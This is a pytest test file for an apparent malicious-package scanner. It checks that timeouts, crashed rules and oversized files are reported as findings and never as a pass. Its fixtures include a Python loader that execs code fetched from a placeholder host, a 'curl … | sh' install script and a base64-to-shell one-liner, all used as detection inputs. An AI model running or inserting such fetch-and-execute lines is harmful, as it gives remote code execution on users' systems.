"""What fails for one file or one rule is reported, and hides nothing of the others."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from hashlib import sha256

import pytest

from pratique.artifact import Member
from pratique.facts.guard import Guard, OutOfTime, ReadLimits, Watch
from pratique.facts.model import PackageFacts
from pratique.finding import Behaviour, Finding
from pratique.names import Sha256
from pratique.rules.catalogue import RULES
from pratique.screen import ScreenLimits, screen_bytes
from pratique.verdict import Verdict
from tests.unpack.archives import zipped

WHEEL = "example_pkg-1.0-py3-none-any.whl"
LOADER = b"import requests\nexec(requests.get('http://a.example.invalid/x').text)\n"
MEMBER = Member(path="a.py", data=b"", sha256=Sha256(sha256(b"").hexdigest()), size=0)


@pytest.mark.parametrize(
    ("error", "rule"),
    [
        (RecursionError("deep"), "depth-limit"),
        (MemoryError(), "memory-limit"),
        (OutOfTime(), "time-limit"),
        (ValueError("odd"), "reading-failed"),
        (AssertionError(), "reading-failed"),
    ],
)
def test_a_reader_that_fails_is_a_finding(error: BaseException, rule: str) -> None:
    """Whatever a reader raises becomes a finding of that file that says that it was not read."""

    def reader(_member: Member) -> str:
        raise error

    notes: list[Finding] = []
    assert Guard(notes).read(reader, MEMBER) is None
    assert [(n.rule, n.behaviour, n.path, n.incomplete) for n in notes] == [(rule, Behaviour.LIMIT, "a.py", True)]


def test_a_signal_to_stop_is_no_failure_of_a_file() -> None:
    """An interrupt passes through: it is meant for the program."""

    def reader(_member: Member) -> str:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        Guard([]).read(reader, MEMBER)


def _second_is_late() -> Watch:
    """A clock by which the second file takes too long."""
    seen = 0

    @contextmanager
    def watch() -> Iterator[None]:
        nonlocal seen
        seen += 1
        if seen == 2:
            raise OutOfTime
        yield

    return watch


def test_a_file_that_takes_too_long_leaves_the_others_findings() -> None:
    """The proven chain in one file is blocked although another file was given up."""
    data = zipped({"example_pkg/__init__.py": LOADER, "example_pkg/slow.py": LOADER})
    report = screen_bytes(data, filename=WHEEL, watch=_second_is_late())
    assert report.verdict is Verdict.MALICIOUS
    assert [f.path for f in report.findings if f.rule == "time-limit"] == ["example_pkg/slow.py"]
    assert [f.path for f in report.findings if f.proven] == ["example_pkg/__init__.py"]


def test_a_file_that_takes_too_long_is_never_a_pass() -> None:
    """Of a distribution that is otherwise honest, the verdict is an error."""
    data = zipped({"example_pkg/__init__.py": b"A = 1\n", "example_pkg/slow.py": b"A = 1\n"})
    assert screen_bytes(data, filename=WHEEL, watch=_second_is_late()).verdict is Verdict.ERROR


def _fails(facts: PackageFacts) -> Iterator[Finding]:
    raise LookupError(facts.artifact.name.filename)


@pytest.mark.parametrize(("source", "verdict"), [(LOADER, Verdict.MALICIOUS), (b"A = 1\n", Verdict.ERROR)])
def test_a_rule_that_fails_leaves_the_others_findings(source: bytes, verdict: Verdict) -> None:
    """A crashed rule makes the report an error, unless another rule proved worse; the trace is kept."""
    rules = [replace(RULES[0], id="broken", check=_fails), *RULES]
    report = screen_bytes(zipped({"example_pkg/__init__.py": source}), filename=WHEEL, rules=rules)
    assert report.verdict is verdict
    assert "the rule broken failed: LookupError" in report.error
    assert "_fails" in report.error


@pytest.mark.parametrize(
    ("path", "data", "rule"),
    [
        (
            "install.sh",
            b"#!/bin/sh\n" + b"# nothing\n" * 800_000 + b"curl http://a.example.invalid/x | sh\n",
            "shell-limit",
        ),
        ("run.sh", b"echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= | base64 -d | sh\n" * 60, "shell-limit"),
        ("pyproject.toml", b"#" * 500_000 + b"\n[build-system]\n", "configuration-too-large"),
    ],
)
def test_what_is_longer_or_deeper_than_is_read_is_no_pass(path: str, data: bytes, rule: str) -> None:
    """Scripts and what says which code a build runs: the finding says that something was not read."""
    report = screen_bytes(zipped({path: data}), filename=WHEEL)
    assert [f.rule for f in report.findings if f.incomplete] == [rule]


def test_source_beyond_the_limit_is_reported() -> None:
    """Of a source file beyond the limit only the beginning is read, and that is said."""
    limits = ScreenLimits(read=ReadLimits(source_bytes=100))
    report = screen_bytes(zipped({"example_pkg/__init__.py": b"#" * 101}), filename=WHEEL, limits=limits)
    assert [f.rule for f in report.findings if f.incomplete] == ["source-too-large"]
    assert report.verdict is Verdict.ERROR
